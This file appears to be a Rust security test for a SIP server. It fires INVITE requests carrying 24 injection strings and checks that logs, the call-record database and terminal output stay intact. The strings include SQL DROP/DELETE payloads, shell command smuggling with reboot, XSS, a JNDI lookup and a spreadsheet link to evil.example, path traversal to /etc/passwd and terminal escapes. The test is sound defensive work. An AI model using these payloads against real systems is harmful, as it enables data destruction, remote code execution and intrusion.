//! T-INJ-1: what would be a command, a tag or a new line to somebody who reads it later. The log stays one event a line, the
//! database stays whole, and what was said stands there as data.

use super::ground::{Ground, OPEN_PORT, assert_well};
use super::hand::{Hand, Proof, offer};
use super::peers::Callee;
use super::report::row;
use crate::devices::Device;
use crate::support::lab::DOMAIN;
use crate::support::server::Server;
use crate::support::{at, pause, seconds};

/// Texts that mean something to a shell, a database, a terminal, a page, a directory, a template, a log.
const TEXTS: [&str; 24] = [
    "'; DROP TABLE call_records;--",
    "' OR '1'='1",
    "\"); DELETE FROM call_records; --",
    "\u{1b}[2J\u{1b}[31mred",
    "\u{1b}]0;title\u{7}",
    "\u{9b}2J",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>",
    "$(reboot)",
    "`reboot`",
    "|| reboot",
    "; reboot",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%0d%0aX-Planted: 1",
    "%00",
    "*)(uid=*))(|(uid=*",
    "../../../../etc/passwd",
    "{\"level\":\"ERROR\",\"message\":\"forged\"}",
    "2026-01-01T00:00:00Z ERROR forged line",
    "\u{202e}evil",
    "\u{2028}forged\u{2029}",
    "=HYPERLINK(\"http://evil.example\")",
];

/// The request with a text in one of its fields, quoted as it has to be there or not at all.
fn requests(hand: &mut Hand, text: &str, line: &str) -> Vec<String> {
    let uri = format!("sip:1002@{DOMAIN}");
    let body = offer(hand.own);
    let escaped: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let quoted = text.replace('\\', "\\\\").replace('"', "\\\"");
    let mut out = Vec::new();
    let mut add = |hand: &mut Hand, old: &str, new: String| {
        let request = hand.request("INVITE", &uri, ("1001", "1002"), line, &body);
        let changed = request.replacen(old, &new, 1);
        assert_ne!(changed, request, "{old} is not there");
        out.push(changed);
    };
    add(
        hand,
        "From: <sip:1001",
        format!("From: \"{quoted}\" <sip:1001"),
    );
    add(hand, "From: <sip:1001", format!("From: <sip:{escaped}"));
    add(hand, "From: <sip:1001", format!("From: {text} <sip:1001"));
    add(hand, "INVITE sip:1002@", format!("INVITE sip:{escaped}@"));
    add(
        hand,
        "To: <sip:1002",
        format!("To: \"{quoted}\" <sip:{escaped}"),
    );
    add(hand, "Call-ID: ", format!("Call-ID: {text}"));
    add(
        hand,
        "Call-ID: ",
        format!(
            "Subject: {text}\r\nUser-Agent: {text}\r\nReason: {text}\r\nDiversion: \"{quoted}\" <sip:1003@{DOMAIN}>\r\nCall-ID: "
        ),
    );
    add(hand, "s=-", format!("s={text}"));
    add(
        hand,
        "Contact: <sip:1001",
        format!("Contact: \"{quoted}\" <sip:{escaped}"),
    );
    out
}

/// Lines of the log that begin as no event does, and control characters in it.
fn scan(server: &Server) -> (usize, usize, usize) {
    let log = server.log();
    let (mut lines, mut odd, mut control) = (0, 0, 0);
    for line in log.lines() {
        lines += 1;
        control += usize::from(line.chars().any(char::is_control));
        let whole = serde_json::from_str::<serde_json::Value>(line)
            .is_ok_and(|event| event["timestamp"].is_string());
        // what the program prints before it logs
        let printed = ["listening ", "wrote a token ", "ready", "strowger"];
        odd += usize::from(!whole && !printed.iter().any(|begin| line.starts_with(begin)));
    }
    (lines, odd, control)
}

/// True when a text in a record would be more than text to a terminal.
fn is_raw(value: &serde_json::Value) -> bool {
    match value {
        serde_json::Value::String(text) => text.chars().any(char::is_control),
        serde_json::Value::Array(items) => items.iter().any(is_raw),
        serde_json::Value::Object(fields) => fields.iter().any(|(_, value)| is_raw(value)),
        _ => false,
    }
}

#[test]
fn gate_texts_that_are_commands_elsewhere_stay_texts() {
    let mut ground = Ground::with(|lab| {
        lab.change(
            "strowger.toml",
            "level = \"warn\"",
            "level = \"debug\"\nformat = \"json\"",
        );
    });
    let bob = Device::registered(&ground.server, "1002", None);
    let leg = Callee::busy(bob.address);
    let mut open = Hand::new(at(ground.server.lab.server, OPEN_PORT));
    let mut phones = Hand::new(ground.server.lab.phones());
    let mut trunks = Hand::new(ground.server.lab.trunks());
    open.patience = seconds(0.2);
    let nonce = phones.nonce();
    let mut sent = 0;
    for text in TEXTS {
        for request in requests(&mut open, text, "") {
            open.ask(&request);
            sent += 1;
        }
        // as one who is refused: by a wrong password, and as nobody's trunk
        let user: String = text
            .chars()
            .filter(|c| !c.is_control() && *c != '"')
            .collect();
        let proof = Proof {
            user: &user,
            password: text,
            nonce: &nonce,
            count: 1,
        };
        let uri = format!("sip:1002@{DOMAIN}");
        let line = proof.line("INVITE", &uri);
        for request in requests(&mut phones, text, &line) {
            phones.say(&request);
            sent += 1;
        }
        for request in requests(&mut trunks, text, "") {
            trunks.say(&request);
            sent += 1;
        }
        pause(seconds(0.02));
    }
    leg.end();
    ground.server.wait_idle();
    pause(seconds(1.5));
    let (lines, odd, control) = scan(&ground.server);
    let records = ground.server.call_records();
    let flags = rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY;
    let database =
        rusqlite::Connection::open_with_flags(ground.server.path("var/strowger.db"), flags)
            .expect("its database");
    let whole: String = database
        .query_row("PRAGMA integrity_check", [], |row| row.get(0))
        .expect("an answer");
    let raw = records.iter().filter(|record| is_raw(record)).count();
    row(
        "T-INJ-1",
        &format!(
            "{sent} requests with commands as texts, {lines} lines of log: lines that are no event, lines with control characters"
        ),
        format!("{odd}, {control}"),
        "0, 0",
    );
    row(
        "T-INJ-1",
        &format!(
            "{} call records: damaged, with control characters",
            records.len()
        ),
        format!("{}, {raw}", u8::from(whole != "ok")),
        "0, 0",
    );
    assert!(
        lines > 100 && records.len() > 50,
        "{lines} lines, {} records",
        records.len()
    );
    assert_eq!((odd, control, raw), (0, 0, 0));
    assert_eq!(whole, "ok");
    // tables for people: a terminal must not obey what a caller said
    for words in [&["calls"][..], &["registrations"], &["bans"]] {
        let shown = ground.server.command(words);
        let text = String::from_utf8_lossy(&shown.stdout).into_owned();
        assert!(
            !text.chars().any(|c| c.is_control() && c != '\n'),
            "{words:?}: {text:?}"
        );
    }
    let ids: Vec<String> = records
        .iter()
        .filter_map(|record| Some(record["id"].as_str()?.to_owned()))
        .take(60)
        .collect();
    for id in ids {
        let shown = ground.server.command(&["calls", &id]);
        let text = String::from_utf8_lossy(&shown.stdout).into_owned();
        assert!(
            !text.chars().any(|c| c.is_control() && c != '\n'),
            "calls {id}: {text:?}"
        );
    }
    assert_well(&mut ground.server, "texts that are commands");
}
